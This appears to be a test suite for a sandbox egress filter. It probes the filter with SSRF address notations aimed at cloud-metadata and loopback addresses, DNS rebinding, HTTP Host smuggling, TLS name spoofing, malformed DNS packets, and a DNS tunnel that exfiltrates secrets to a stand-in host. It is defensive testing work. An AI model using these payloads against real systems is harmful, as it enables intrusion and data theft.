"""Attacks on the allow list: what is not on it is not reached, whatever it is called and however it is asked for.

Every control is the world's: what the island is refused works there without cay.
"""

import json
import os
import pathlib
import signal
import socket
import ssl
import time

import pytest

import world as places
from attack import attack, told
from maker import Maker
from support import wait_until
from traveller import PRELUDE
from world_dns import Says

ANY_PORT = ["*.example.org:*"]

# Errors by which a connection can be refused; all of them are told to the program at once.
REFUSED = {"EHOSTUNREACH", "ENETUNREACH", "EACCES", "ECONNREFUSED", "EADDRNOTAVAIL", "EINVAL", "EAI_NONAME", "ECONNRESET",
           "ENOTCONN", "-9"}  # ENOTCONN: a reset, noticed by another call; -9: EAI_ADDRFAMILY

# Each leads to a server of the world's; the control shows that.
LITERALS = [places.WEB, places.OTHER, places.METADATA, places.PRIVATE, "172.16.0.1", "192.168.1.1", "100.64.0.1",
            "100.100.100.200", "192.0.0.192"]
LITERALS6 = [places.WEB6, places.METADATA6, "fc00::1"]

# Other ways to write some of them, and loopback.
NOTATIONS = ["127.0.0.1", "127.1", "127.0.1", "0.0.0.0", "0", "0x7f000001", "0x7f.1", "2130706433", "017700000001",
             "0177.0.0.1", "127.000.000.001", "::1", "::", "::ffff:127.0.0.1", "::ffff:7f00:1", "::127.0.0.1",
             "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "0xa9.254.0251.254", "169.16689662",
             "::ffff:169.254.169.254", "::ffff:a9fe:a9fe", "64:ff9b::a9fe:a9fe", "64:ff9b:1::a01:203", "2002:a01:203::1",
             "fe80::1%lo", "224.0.0.1", "255.255.255.255", "198.18.0.2", "198.18.0.3", "198.19.255.255",
             "240.0.0.1", "localhost"]


def nothing_left_it(world):
    """Neither a query nor a connection nor a packet."""
    assert not world.names.queries and not world.reached and not world.strays, (
        world.names.queries, world.reached, world.strays)


def refused(results):
    """{what: error}: all of them, and there were some."""
    assert results
    wrong = {what: how for what, how in results.items() if how not in REFUSED}
    assert not wrong, wrong
    for how in results.values():
        told(how)


def connect_all(addresses, port=80):
    return f"say({{a: attempt(tcp, a, {port}, 3) for a in {addresses!r}}})"


@attack(28)
@pytest.mark.parametrize("port", [80, 9000])
def test_addresses(traveller, port):
    """Addresses in every notation: public, private, loopback, metadata, mapped, embedded."""
    world = traveller.world
    assert all(world.connects(a, port) for a in [*LITERALS, *LITERALS6, "127.0.0.1", "::1"]), "the control"
    world.settle()
    result = traveller.python(connect_all([*LITERALS, *LITERALS6, *NOTATIONS], port), allow=["*:*"])
    refused(result.json)
    nothing_left_it(world)
    assert (port, "an address, where only names are allowed") in result.of(places.WEB, "denied"), result.egress


@attack(28)
def test_the_host_itself(traveller):
    """The host's own public address, by name and as it is: no firewall would be between; with every name allowed."""
    world = traveller.world
    assert all(world.connects(a, port) for a in (places.OWN, places.OWN6) for port in (80, 9000)), "the control"
    world.settle()
    world.names.zone["own.example.org"] = Says(a=(places.OWN,), aaaa=(places.OWN6,))
    result = traveller.python(
        f"say({{f'{{a}} {{p}}': attempt(tcp, a, p, 3) for a in ({places.OWN!r}, 'own.example.org') for p in (80, 9000)}})",
        mode="full", allow=())
    refused(result.json)
    assert not world.reached, world.reached
    result.denied("own.example.org", "leads to an address that is not public")


@attack(28)
def test_addresses_in_full_mode(traveller):
    """With every name allowed, addresses that are not public, in every notation; the public ones are reached."""
    world = traveller.world
    private = [a for a in [*LITERALS, *LITERALS6, *NOTATIONS] if a not in (places.WEB, places.OTHER, places.WEB6)]
    result = traveller.python(connect_all(private), mode="full", allow=())
    refused(result.json)
    nothing_left_it(world)
    assert traveller.python(connect_all([places.WEB]), mode="full", allow=()).json == {places.WEB: "worked"}
    assert world.reached_at(places.WEB)


PROXY = """
def by_proxy(request):
    s = tcp('198.18.0.1', 3128); s.sendall(request.encode('latin-1')); return everything(s).split(b'\\r\\n')[0].decode()
"""


@attack(28)
def test_addresses_by_proxy(traveller):
    """The same by CONNECT and absolute-form requests; and requests that a proxy could misread."""
    hosts = [*LITERALS, *(f"[{a}]" for a in LITERALS6), "127.1", "0x7f000001", "2130706433", "0177.0.0.1", "[::1]",
             "[::ffff:169.254.169.254]", "localhost", "evil.test", "goodexample.org", "www.example.org@evil.test",
             "evil.test#.example.org", "evil.test\\0.example.org", "evil.test%00.example.org"]
    result = traveller.python(PROXY + f"""
answers = {{}}
for h in {hosts!r}:
    answers['CONNECT ' + h] = by_proxy(f'CONNECT {{h}}:80 HTTP/1.1\\r\\nHost: {{h}}:80\\r\\n\\r\\n')
    answers['GET ' + h] = by_proxy(f'GET http://{{h}}/ HTTP/1.1\\r\\nHost: {{h}}\\r\\nConnection: close\\r\\n\\r\\n')
control = by_proxy('GET http://www.example.org/ HTTP/1.1\\r\\nHost: www.example.org\\r\\nConnection: close\\r\\n\\r\\n')
say([answers, control])""")
    answers, control = result.json
    assert " 200 " in control
    wrong = {what: how for what, how in answers.items() if " 4" not in how[:12] and how}
    assert not wrong, wrong
    world = traveller.world
    assert {r.host for r in world.reached} == {"", "www.example.org"} and not world.strays
    assert {q.name for q in world.names.queries} == {"www.example.org"}
    told("403 or 400")


@attack(28)
def test_names_that_look_alike(traveller):
    """goodexample.org, example.org.evil.test, example.org itself, where *.example.org is allowed."""
    names = ["goodexample.org", "example.org.evil.test", "www.example.org.evil.test", "example.org", "org", "evil.test",
             "example.orgx", "www-example.org", "wwwexample.org", "xn--example-org.test"]
    result = traveller.python(connect_all(names))
    assert set(result.json.values()) == {"EAI_NONAME"}, result.json
    nothing_left_it(traveller.world)
    for name in ("goodexample.org", "example.org.evil.test", "example.org"):
        result.denied(name, "not in allow list")
    one = traveller.python(connect_all(["www.example.org", "xwww.example.org", "x.www.example.org", "npm.example.org"]),
                           allow=["www.example.org"]).json
    assert [name for name, how in one.items() if how == "worked"] == ["www.example.org"]
    told("EAI_NONAME")


@attack(28)
def test_ways_to_write_a_name(traveller):
    """Upper case and a dot at the end are the same name; two dots, umlauts, spaces, underscores are none."""
    world = traveller.world
    world.names.zone["xn--mnchen-3ya.example.org"] = Says(a=(places.WEB,))
    result = traveller.python("""
names = ['WWW.EXAMPLE.ORG', 'www.example.org.', 'wWw.ExAmPlE.oRg.', 'xn--mnchen-3ya.example.org',
         'www.example.org..', '.www.example.org', 'www..example.org', 'www.exam ple.org', '-www.example.org',
         'www\\u3002evil.test', 'www.example.org\\uff0eevil.test', 'a' * 64 + '.example.org']
say({n: attempt(tcp, n, 80) for n in names})""")
    ways = list(result.json.items())
    assert all(how == "worked" for _, how in ways[:4]), ways
    assert not [name for name, how in ways[4:] if how == "worked"], ways
    assert {q.name.lower() for q in world.names.queries} == {"www.example.org", "xn--mnchen-3ya.example.org"}
    told("one name, or none")


# Queries by hand: name by name as labels, and whole packets.
DNS = """
def query(labels, kind=1, klass=1, flags=0x0100, count=1, name=None):
    if name is None: name = b''.join(bytes([len(l)]) + l for l in labels) + b'\\0'
    return struct.pack('!6H', 7, flags, count, 0, 0, 0) + name + struct.pack('!2H', kind, klass)
def ask(packet, server='198.18.0.1', transport='udp'):
    # (rcode, number of answers) or how it failed
    try:
        if transport == 'udp':
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3); s.connect((server, 53)); s.send(packet)
            answer = s.recv(4096)
        else:
            s = tcp(server, 53); s.settimeout(0.3); s.sendall(struct.pack('!H', len(packet)) + packet)
            answer = s.recv(4096)[2:]
        return [answer[3] & 15, struct.unpack('!H', answer[6:8])[0]] if len(answer) >= 12 else 'ended'
    except OSError as e: return name_of(e)
good = query([b'www', b'example', b'org'])
"""


@attack(28)
@pytest.mark.parametrize("transport", ["udp", "tcp"])
def test_names_that_are_none(traveller, transport):
    """NUL, newline, dots and high bytes in labels, 254 bytes, pointers, other types and classes, broken packets."""
    result = traveller.python(DNS + f"""
ends = [b'example', b'org']
bad = dict(
    nul=query([b'evil\\0', *ends]), nul_spoof=query([b'evil.test\\0', *ends]), nul_last=query([*ends[:1], b'org\\0']),
    newline=query([b'www\\n', *ends]), header=query([b'www\\r\\nHost: x', *ends]), dot=query([b'a.b', *ends]),
    spoof=query([b'www.example.org', b'evil', b'test']), spoof_one=query([b'evil.test.example', b'org']),
    space=query([b'w w', *ends]), high=query([b'm\\xc3\\xbcnchen', *ends]), ff=query([b'\\xff' * 10, *ends]),
    star=query([b'*', *ends]), slash=query([b'../../etc', *ends]), percent=query([b'%s%n', *ends]),
    long_name=query([b'a' * 63] * 3 + [b'b' * 50, *ends]), longer=query([b'a' * 63] * 5 + ends), many=query([b'a'] * 130 + ends),
    pointer=query(None, name=b'\\xc0\\x0c'), pointers=query(None, name=b'\\3www\\xc0\\x0c'), beyond=query(None, name=b'\\3www\\xff\\xff'),
    label64=query(None, name=b'\\x40' + b'a' * 64 + b'\\0'), label_odd=query(None, name=b'\\x80aa\\0'),
    unended=query(None, name=b'\\3www\\7example\\3org'), root=query([]), one=query([b'org']),
    two=query([b'www', *ends], count=2), none=query([b'www', *ends], count=0), many_said=query([b'www', *ends], count=65535),
    answer=query([b'www', *ends], flags=0x8100), notify=query([b'www', *ends], flags=0x2000), update=query([b'www', *ends], flags=0x2800),
    chaos=query([b'version', b'bind'], kind=16, klass=3), any_class=query([b'www', *ends], klass=255),
    short=good[:11], shorter=good[:5], cut=good[:20], empty=b'', byte=b'x', zeros=bytes(12), ones=b'\\xff' * 512)
types = {{kind: ask(query([b'www', *ends], kind=kind), transport={transport!r})
         for kind in (2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 43, 48, 64, 65, 249, 250, 251, 252, 255, 65535)}}
say([{{n: ask(p, transport={transport!r}) for n, p in bad.items()}}, types, ask(good, transport={transport!r})])""")
    bad, types, good = result.json
    assert good == [0, 1], "the control"
    wrong = {what: how for what, how in bad.items() if isinstance(how, list) and (how[0] == 0 or how[1])}
    assert not wrong, wrong
    assert not {kind: how for kind, how in types.items() if isinstance(how, list) and how[1]}, types
    # Of the good name's own the world may be asked; of nothing else.
    world = traveller.world
    assert {(q.name, q.type) for q in world.names.queries} <= {("www.example.org", "A"), ("www.example.org", "AAAA")}
    assert not world.strays and not world.reached
    told("no answer or an error")


@attack(28)
def test_longest_name(root_traveller):
    """A name of 253 bytes is one, and is found; one of 254 is none."""
    labels = ["a" * 63, "b" * 63, "c" * 63, "d" * (253 - 3 * 64 - len(".example.org")), "example", "org"]
    name = ".".join(labels)
    assert len(name) == 253
    root_traveller.world.names.zone[name] = Says(a=(places.WEB,))
    result = root_traveller.python(DNS + f"""
labels = [l.encode() for l in {labels!r}]; longer = [*labels[:3], labels[3] + b'd', *labels[4:]]
say([ask(query(labels)), ask(query(longer))])""")
    first, second = result.json
    assert first == [0, 1] and second[1] == 0, result.json
    assert {q.name for q in root_traveller.world.names.queries} == {name}
    told("NXDOMAIN")


PRIVATE_ANSWERS = ["127.0.0.1", "127.0.0.53", "0.0.0.0", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254",
                   "100.64.0.1", "100.100.100.200", "192.0.0.192", "198.18.0.1", "198.18.1.0", "192.0.2.1", "198.51.100.1",
                   "203.0.113.1", "224.0.0.1", "240.0.0.1", "255.255.255.255"]
PRIVATE_ANSWERS6 = ["::1", "::", "::ffff:127.0.0.1", "::ffff:169.254.169.254", "::ffff:10.1.2.3", "::10.1.2.3",
                    "64:ff9b::a01:203", "64:ff9b::a9fe:a9fe", "64:ff9b:1::a01:203", "2002:a01:203::1", "2002:7f00:1::",
                    "2001:0:a01:203::1", "2001:db8::1", "fd00:ec2::254", "fc00::1", "fe80::1", "fec0::1", "ff02::1", "100::1"]


@attack(28)
@pytest.mark.parametrize("mode", ["allowlist", "full"])
def test_private_answers(traveller, mode):
    """Allowed names that lead to addresses that are not public, by IPv4 and IPv6, alone and behind a chain."""
    world, names = traveller.world, {}
    for n, address in enumerate([*PRIVATE_ANSWERS, *PRIVATE_ANSWERS6]):
        says = Says(aaaa=(address,)) if ":" in address else Says(a=(address,))
        names[f"p{n}.example.org"] = address
        world.names.zone[f"p{n}.example.org"] = says if n % 2 else Says(cname=f"q{n}.example.net")
        world.names.zone[f"q{n}.example.net"] = says
    assert world.run("curl", "-s", "-4", "http://p3.example.org/").returncode == 0, "the control: 10.1.2.3 answers"
    world.names.forget()
    world.reached.clear()
    result = traveller.python(connect_all(list(names)), mode=mode, allow=ANY_PORT if mode == "allowlist" else ())
    wrong = {names[name]: how for name, how in result.json.items() if how not in REFUSED}
    assert not wrong, wrong
    assert not world.reached and not world.strays
    for name in names:
        result.denied(name, "leads to an address that is not public")
    told("refused")


@attack(28)
def test_private_answers_among_public_ones(traveller):
    """Answers with both: whichever comes first, the private one is never tried."""
    world = traveller.world
    for n, says in enumerate([Says(a=(places.PRIVATE, places.WEB)), Says(a=(places.WEB, places.PRIVATE)),
                              Says(a=(places.BEYOND, places.METADATA)), Says(a=(places.WEB,), aaaa=(places.METADATA6,)),
                              Says(a=(places.METADATA,), aaaa=(places.WEB6,))]):
        world.names.zone[f"m{n}.example.org"] = says
    result = traveller.python("say([attempt(tcp, f'm{n}.example.org', 80, 3) for n in range(5)])")
    assert not world.reached_at(places.PRIVATE, places.METADATA, places.METADATA6), result.json
    assert all(r.address in (places.WEB, places.WEB6) for r in world.reached)
    told("never tried")


@attack(28)
def test_rebinding(traveller):
    """A name that is public when it is checked and private a moment later, with a time to live of none."""
    world = traveller.world
    world.names.zone["rebind.example.org"] = [Says(a=(places.WEB,), ttl=0), Says(a=(places.METADATA,), ttl=0)]
    result = traveller.python("""
address = socket.gethostbyname('rebind.example.org')
how = [attempt(tcp, 'rebind.example.org', 80) for _ in range(5)] + [attempt(tcp, address, 80) for _ in range(5)]
time.sleep(6)
say([how, attempt(tcp, 'rebind.example.org', 80), attempt(tcp, address, 80)])""")
    how, later, by_address = result.json
    assert how[0] == "worked" and {later, by_address} <= REFUSED, result.json
    asked = [q for q in world.names.asked_for("rebind.example.org") if q.type == "A"]
    assert len(asked) >= 2, "the control: it was asked for again, and the answer was private"
    assert not world.reached_at(places.METADATA) and world.reached_at(places.WEB)
    result.denied("rebind.example.org", "leads to an address that is not public")
    told("public, then refused")


@attack(28)
@pytest.mark.parametrize("proxy", [False, True], ids=["direct", "proxy"])
def test_redirects(traveller, proxy):
    """An allowed host that sends the program on to a private address, a private name and a forbidden one."""
    world = traveller.world
    world.names.zone["inner.example.org"] = Says(a=(places.PRIVATE,))
    targets = [f"http://{places.METADATA}/", "http://inner.example.org/", "http://evil.test/", "http://127.0.0.1/",
               f"http://[{places.METADATA6}]/"]
    for target in targets[:3]:
        done = world.run("curl", "-sSfLg", f"http://www.example.org/redirect?{target}")
        assert done.returncode == 0 and "hello" in done.stdout, "the control"
    world.reset()
    world.names.zone["inner.example.org"] = Says(a=(places.PRIVATE,))
    send = traveller.send if proxy else traveller.direct
    result = send("sh", "-c", "for t; do curl -sSfLg http://www.example.org/redirect?$t; echo $?; done", "sh", *targets)
    codes = result.out.split()
    assert len([r for r in world.reached if r.said.startswith("GET /redirect?")]) == len(targets), "they were sent on"
    assert len(codes) == len(targets) and "0" not in codes, result.out
    assert not world.saw("evil.test") and {r.address for r in world.reached if r.address} <= {places.WEB, places.WEB6}
    told("curl fails")


HTTP = """
def http(*requests, end=True):
    s = tcp('www.example.org', 80); got = b''
    try:
        for r in requests: s.sendall(r.encode('latin-1')); time.sleep(0.1)
        if end: s.shutdown(socket.SHUT_WR)
        return everything(s).decode('latin-1')
    except OSError as e: return name_of(e)
ok = 'GET /ok HTTP/1.1\\r\\nHost: www.example.org\\r\\n\\r\\n'
def get(host, line='GET /attack HTTP/1.1'): return f'{line}\\r\\nHost: {host}\\r\\n\\r\\n'
"""


@attack(28)
def test_other_hosts_by_http(traveller):
    """An allowed address with another's Host: at once, as the second request, twice, absolute, folded, smuggled."""
    result = traveller.python(HTTP + """
tries = dict(
    other=[get('evil.test')], second=[ok, get('evil.test')], pipelined=[ok + get('evil.test')],
    split=['GET /attack HTTP/1.1\\r\\nHo', 'st: evil', '.test\\r\\n\\r\\n'], port=[get('evil.test:80')],
    twice=['GET /attack HTTP/1.1\\r\\nHost: www.example.org\\r\\nHost: evil.test\\r\\n\\r\\n'],
    absolute=[get('www.example.org', 'GET http://evil.test/attack HTTP/1.1')],
    folded=['GET /attack HTTP/1.1\\r\\nHost:\\r\\n evil.test\\r\\n\\r\\n'],
    none=['GET /attack HTTP/1.1\\r\\n\\r\\n'],
    spaced=['GET /attack HTTP/1.1\\r\\nHost : evil.test\\r\\n\\r\\n'], bare=['GET /attack HTTP/1.1\\nHost: evil.test\\n\\n'],
    blank=['\\r\\n\\r\\n' + get('evil.test')], nul=[get('evil.test\\0.example.org')], spoof=[get('evil.test/.example.org')],
    length=['POST /ok HTTP/1.1\\r\\nHost: www.example.org\\r\\nContent-Length: 3\\r\\n\\r\\nabc' + get('evil.test')],
    both=['POST /ok HTTP/1.1\\r\\nHost: www.example.org\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n' + get('evil.test')],
    address=[get('169.254.169.254')], tunnel=['CONNECT evil.test:80 HTTP/1.1\\r\\nHost: evil.test:80\\r\\n\\r\\n'],
    h2=['PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'])
answers = {n: http(*r)[:60] for n, r in tries.items()}
say([answers, http(get('WWW.Example.Org:80', 'GET / HTTP/1.1').replace('\\r\\n\\r\\n', '\\r\\nConnection: close\\r\\n\\r\\n'))[-40:]])""")
    answers, control = result.json
    assert control.endswith("hello from www.example.org\n"), control
    attacks = [r for r in traveller.world.reached if "attack" in r.said or "evil" in r.host + r.said]
    assert not attacks, (attacks, answers)
    result.denied("www.example.org", "TLS or HTTP names another host than the one connected to")
    told("ended")


def hello(host, name):
    return f"""
import ssl
context = ssl._create_unverified_context()
def tls(name):
    s = tcp({host!r}, 443); s.settimeout(5)
    try: context.wrap_socket(s, server_hostname=name).close(); return 'worked'
    except OSError as e: return type(e).__name__
say([tls(n) for n in {name!r}])"""


@attack(28)
def test_other_hosts_by_tls(traveller):
    """An allowed address with another's name in TLS; with none it gets what the server has for that."""
    world = traveller.world
    context = ssl._create_unverified_context()

    def shake():
        with socket.create_connection((places.WEB, 443), 5) as s:
            context.wrap_socket(s, server_hostname="evil.test").close()
    world.inside(shake)
    assert [r for r in world.reached if (r.host, r.said) == ("evil.test", "hello")], "the control"
    world.settle()
    result = traveller.python(hello("www.example.org", ["evil.test", "goodexample.org", "www.example.org", None]))
    *others, own, unnamed = result.json
    assert own == unnamed == "worked" and "worked" not in others, result.json
    assert {r.host for r in world.reached if r.said == "hello"} == {"www.example.org", ""}
    result.denied("www.example.org", "TLS or HTTP names another host than the one connected to")
    told("ended")


@attack(28)
def test_other_hosts_where_nobody_checks(root_traveller, config):
    """The control of both: with check_names off the same requests arrive."""
    path = config("[network]\ncheck_names = no\n")
    result = root_traveller.python(HTTP + "say(http(get('evil.test', 'GET / HTTP/1.0'))[-40:])", config=path)
    assert result.json.endswith("hello from evil.test\n")
    assert root_traveller.python(hello("www.example.org", ["evil.test"]), config=path).json == ["worked"]
    told("works when switched off")


@attack(28)
def test_udp(traveller):
    """UDP to allowed names and to addresses, HTTP/3's port among them: refused, told and noted."""
    world = traveller.world

    def send():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(b"control", (places.WEB, 443))
    world.inside(send)
    wait_until(lambda: any("control" in r.said for r in world.reached), 5, "the control")
    world.reset()
    result = traveller.python(f"""
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect((host, port))
    s.send(b'x' * 1200); s.recv(100)
say({{f'{{h}} {{p}}': attempt(udp, h, p) for p in (443, 123, 9000, 1) for h in ('www.example.org', '{places.WEB}', '8.8.8.8')}}
    | {{'v6': attempt(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('{places.WEB6}', 443)))}})""")
    refused(result.json)
    assert not world.reached and not world.strays
    assert (443, "neither TCP nor DNS") in result.of("www.example.org", "denied") | result.of(places.WEB, "denied"), result.egress


@attack(28)
def test_other_protocols(traveller):
    """ICMP, raw, SCTP, DCCP, UDP-Lite, multipath TCP to an address; marks, transparent sockets, routes and rules of its own."""
    result = traveller.python(f"""
how = {{}}
def sock(*a): return lambda: socket.socket(*a)
def send(*a):
    def f():
        s = socket.socket(*a); s.settimeout(1); s.connect(('{places.WEB}', 80)); s.send(b'\\x08\\0\\0\\0\\0\\1\\0\\1'); s.recv(10)
    return f
for name, a in dict(icmp=(2, 2, 1), icmp6=(10, 2, 58), raw_icmp=(2, 3, 1), raw_tcp=(2, 3, 6), raw=(2, 3, 255), raw_udp=(2, 3, 17),
                    sctp=(2, 1, 132), dccp=(2, 6, 33), udplite=(2, 2, 136), mptcp=(2, 1, 262)).items():
    how[name] = attempt(send(*a))
def option(level, name, value): return lambda: socket.socket().setsockopt(level, name, value)
how['mark'] = attempt(option(1, 36, 1)); how['transparent'] = attempt(option(0, 19, 1)); how['freebind v6'] = attempt(option(41, 75, 1))
how['netfilter'] = attempt(sock(16, 3, 12)); how['xfrm'] = attempt(sock(16, 3, 6)); how['packet'] = attempt(sock(17, 3, 3))
def route():  # RTM_NEWLINK: lo down; RTM_NEWADDR: another address
    for kind, body in ((16, struct.pack('=BxHiII', 0, 0, 1, 0, 1)), (20, struct.pack('=BBBBI', 2, 32, 0, 0, 1) + struct.pack('=HH4s', 8, 2, bytes(4)))):
        s = socket.socket(16, 3, 0); s.send(struct.pack('=IHHII', 16 + len(body), kind, 5, 1, 0) + body)
        error = struct.unpack('=i', s.recv(4096)[16:20])[0]
        if error == 0: return
    raise OSError(-error, '')
how['route'] = attempt(route)
say(how)""")
    wrong = {what: how for what, how in result.json.items()
             if how not in REFUSED | {"EPERM", "EPROTONOSUPPORT", "ESOCKTNOSUPPORT", "ENOPROTOOPT", "EAFNOSUPPORT", "EOPNOTSUPP"}}
    assert not wrong, wrong
    nothing_left_it(traveller.world)
    for how in result.json.values():
        told(how)


@attack(28)
def test_other_name_servers(traveller):
    """DNS by UDP and TCP to public and private servers, the world's own resolver among them: it never gets there."""
    world = traveller.world
    servers = [places.OTHER_RESOLVER, places.RESOLVER, places.WEB, "1.1.1.1"]
    result = traveller.python(DNS + f"""
say([[ask(p, server, transport) for p in (good, query([b'evil', b'test']))]
     for server in {servers!r} for transport in ('udp', 'tcp')])""")
    wrong = [how for pair in result.json for how in pair if isinstance(how, list) and (how[0] == 0 or how[1])]
    assert not wrong, result.json
    nothing_left_it(world)
    told("REFUSED or unreachable")


@attack(28)
def test_other_name_servers_in_full_mode(traveller):
    """In full mode they seem to answer, but the answer is ours: they are never asked."""
    result = traveller.python(DNS + f"say([ask(good, s) for s in ('{places.OTHER_RESOLVER}', '{places.BEYOND}')])",
                              mode="full", allow=())
    assert result.json == [[0, 1], [0, 1]]
    world = traveller.world
    assert {q.server for q in world.names.queries} == {places.RESOLVER} and not world.strays
    told("answered by us")


@attack(28)
def test_tunnel(traveller):
    """Secrets as names: hundreds of queries, by the C library and by hand, of which none leaves."""
    result = traveller.python(DNS + """
how = set()
for n in range(200):
    how.add(str(ask(query([b'secret%d' % n, b'x' * 63, b'tunnel', b'evil', b'test']))))
    how.add(str(ask(query([b'secret%d' % n, b'www', b'example', b'org']), transport='tcp' if n % 10 == 0 else 'udp')))
for n in range(20): how.add(attempt(socket.gethostbyname, f'secret{n}.evil.test'))
say(sorted(how))""", allow=["www.example.org"])
    assert result.json == ["EAI_NONAME", "[3, 0]"], result.json
    nothing_left_it(traveller.world)
    assert sum(e["times"] for e in result.egress) + result.all.get("egress_unlisted", 0) >= 400, "all are counted"
    told("NXDOMAIN")


@attack(28)
def test_sockets_of_the_host(traveller, place):
    """Services of the world and of the host on loopback, abstract and pathname sockets, with the network on."""
    def listen(name):
        sock = socket.socket(socket.AF_UNIX)
        sock.bind(name)
        sock.listen()
        return sock
    name = f"\0egress-{os.getpid()}-{time.monotonic_ns()}"
    world = traveller.world
    with listen(name) as here, world.inside(lambda: listen(name + "w")) as there, listen(str(place / "s")) as path:
        os.chmod(place / "s", 0o777)
        for reach in (name, str(place / "s")):
            socket.socket(socket.AF_UNIX).connect(reach)  # the control: they listen
        assert world.connects("127.0.0.1", 80) and here and there and path
        world.settle()
        result = traveller.python(f"""
say({{repr(a): attempt(socket.socket(socket.AF_UNIX).connect, a) for a in {[name, name + "w", str(place / "s")]!r}}}
    | {{f'{{a}} {{p}}': attempt(tcp, a, p) for a in ('127.0.0.1', '::1', 'localhost') for p in (80, 9000, 53)}})""",
                                  mode="full", allow=())
    how = result.json
    # 127.0.0.1:53 is where held connections are let through to: who goes there directly gets nothing.
    assert {h for what, h in how.items() if not what.endswith(" 53")} <= REFUSED | {"ENOENT", "EPERM"}, how
    nothing_left_it(world)
    told("refused")


def egress_of(pid):
    """The process that carries the connections of a cay."""
    for child in map(int, pathlib.Path(f"/proc/{pid}/task/{pid}/children").read_text().split()):
        if pathlib.Path(f"/proc/{child}/cmdline").read_bytes().startswith(b"cay-egress\0"):
            return child
    return None


@attack(29)
def test_files_of_the_caller(traveller):
    """What the caller of cay has open is not cay-egress's, which reads what strangers send."""
    mine = os.open("/etc/passwd", os.O_RDONLY)
    process = traveller.begin("print('here'); time.sleep(20)", pass_fds=[mine])
    try:
        wait_until(lambda: egress_of(process.pid), 20, "cay-egress")
        egress = egress_of(process.pid)
        wait_until(lambda: os.readlink(f"/proc/{egress}/exe").endswith("cay-egress"), 20, "cay-egress itself")
        files = {os.readlink(f) for f in pathlib.Path(f"/proc/{egress}/fd").iterdir()}
        assert os.readlink(f"/proc/{process.pid}/fd/{mine}") == "/etc/passwd", "the control"
    finally:
        os.close(mine)
        process.terminate()
        process.communicate(timeout=20)
    assert files and "/etc/passwd" not in files, files
    told("closed")


@attack(29)
def test_death_of_the_egress_process(traveller):
    """kill -9 of cay-egress under a run: no name, no connection, none of those there were; and never an open network."""
    world = traveller.world
    process = traveller.begin("""
s = tool('hold'); s.recv(5)
s.settimeout(20); first = attempt(s.recv, 1)
known = '198.18.1.0'
say({'held': first, 'known': attempt(tcp, known, 9000, 2), 'name': attempt(tcp, 'www.example.org', 80, 2),
     'literal': attempt(tcp, '93.184.216.34', 80, 2), 'metadata': attempt(tcp, '169.254.169.254', 80, 2)})
""", allow=ANY_PORT)
    try:
        wait_until(lambda: any(r.said == "hold" for r in world.reached), 20, "the connection")
        world.reached.clear()
        world.names.forget()
        egress = egress_of(process.pid)
        assert egress, "the control: there is one"
        os.kill(egress, signal.SIGKILL)
        out, err = process.communicate(timeout=60)
    finally:
        process.kill()
        process.wait()
    assert [r for r in world.reached if r.said != "held no more"] == [] and not world.names.queries and not world.strays
    how = json.loads(json.loads(out)["stdout"].splitlines()[-1])
    assert how.pop("held") in ("worked", "ECONNRESET"), "its end was told to the program, one way or the other"
    assert "worked" not in how.values(), (how, err)
    told("no network")


@pytest.fixture
def daemon(scratch, world):
    maker = Maker(scratch, world.enter)
    yield maker("root")
    maker.end()


def attempts(*names):
    return PRELUDE + f"print(*[attempt(tcp, n, 80, 3) for n in {names!r}])"


@attack(29)
def test_death_under_a_daemon(daemon, world):
    """The same under a daemon: sandboxes have their rules or no network, before, while and after it is started again."""
    network = {"mode": "allowlist", "allow": ["www.example.org"]}
    with daemon.sandbox(network=network) as sandbox:
        assert sandbox.python(attempts("www.example.org", "evil.test"))["stdout"] == "worked EAI_NONAME\n"
        before = daemon.pids()["egress"]
        daemon.expect_errors = True
        os.kill(before, signal.SIGKILL)
        for _ in range(5):
            answer = sandbox.request("POST", "/runs", {"language": "python", "code": attempts(
                "evil.test", places.WEB, places.METADATA, "127.0.0.1")})
            assert answer.status != 200 or "worked" not in answer.json["stdout"], answer.body
    wait_until(lambda: daemon.pids().get("egress", before) != before, 15, "the next one")
    assert not world.saw("evil.test") and not world.reached_at(places.METADATA, places.OTHER)
    result = daemon.run(attempts("www.example.org", "evil.test"), network=network)
    assert result["stdout"] == "worked EAI_NONAME\n", result
    told("its rules or nothing")


@attack(29)
def test_deaths_one_after_the_other(daemon, world):
    """An island that could end cay-egress again and again: the daemon and other sandboxes go on."""
    daemon.expect_errors = True
    with daemon.sandbox(network={"allow": ["www.example.org"]}) as sandbox:
        api = daemon.pids()["api"]
        killed = set()
        while len(killed) < 6:
            wait_until(lambda: daemon.pids().get("egress", min(killed, default=0)) not in killed | {0}, 15, "the next one")
            egress = daemon.pids()["egress"]
            os.kill(egress, signal.SIGKILL)
            killed.add(egress)
        assert sandbox.python("print(1)")["stdout"] == "1\n"
        assert daemon.pids()["api"] == api
        wait_until(lambda: "worked" in sandbox.python(attempts("www.example.org"))["stdout"], 40, "the network again")
    told("the others go on")


@attack(29)
def test_rules_that_change(daemon, world):
    """A rule taken away while a program knows the address and tries without end: nothing gets through after the answer."""
    code = PRELUDE + """
address = socket.gethostbyname('www.example.org'); open('ready', 'w').close()
end, last = time.monotonic() + 3, {}
while time.monotonic() < end:
    began = time.time(); last[attempt(lambda: tcp(address, 80, 3).getpeername())] = began
say(last)"""
    with daemon.sandbox(network={"mode": "allowlist", "allow": ["*.example.org"]}) as sandbox:
        run = sandbox.request("POST", "/runs", {"language": "python", "code": code, "background": True}).ok(202)
        wait_until(lambda: "ready" in sandbox.names(), 15, "its start")
        time.sleep(0.5)
        sandbox.request("PATCH", json={"network": {"allow": ["npm.example.org"]}}).ok()
        answered = time.time()
        world.settle()
        time.sleep(0.5)
        assert not world.reached
        wait_until(lambda: daemon.get(f"/v1/runs/{run['id']}").ok()["status"] != "running", 20, "its end")
        last = json.loads(daemon.get(f"/v1/runs/{run['id']}").ok()["stdout"])
    assert 0 < last.pop("worked") <= answered, "it got through before, and not after"
